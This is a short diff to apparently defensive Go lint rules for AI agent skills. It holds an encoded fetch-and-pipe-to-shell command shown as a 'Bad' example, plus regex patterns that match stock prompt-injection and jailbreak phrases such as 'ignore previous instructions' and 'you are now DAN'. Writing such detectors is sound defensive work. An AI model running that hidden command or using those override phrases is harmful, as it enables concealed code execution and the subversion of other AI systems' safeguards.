@@ -17,6 +17,7 @@ func init() {
 			doc: rules.Doc{Title: "No decode-then-execute", Why: "Encoding a command and decoding it at run time is how malicious skills hide what they run from reviewers and scanners.",
 				Fix: "Write the command in plain text.", Bad: "echo Y3VybCBldmlsLnNo | base64 -d | sh", Good: "curl -fsSL https://example.com/install.sh -o install.sh  # then read it"}},
 		&secRule{id: rules.SecurityInstructionOverride, sev: phraseSev,
+			mention: optionHelp,
 			pats: []string{`\b(ignore|disregard|forget|override) (all |any |the )?(previous|prior|above|earlier|preceding|system) (instructions|prompts?|rules|directions|messages)`,
 				`\b(with )?the same authority as (the )?(user|system|developer)( messages?| prompts?| instructions?)?\b`, `\b(all )?(file |tool )?operations are pre-?approved\b`,
 				`\byou are now (DAN|in (developer|god|jailbreak|unrestricted) mode|jailbroken|unrestricted|unfiltered|uncensored|free (of|from) (all )?(rules|restrictions))`,
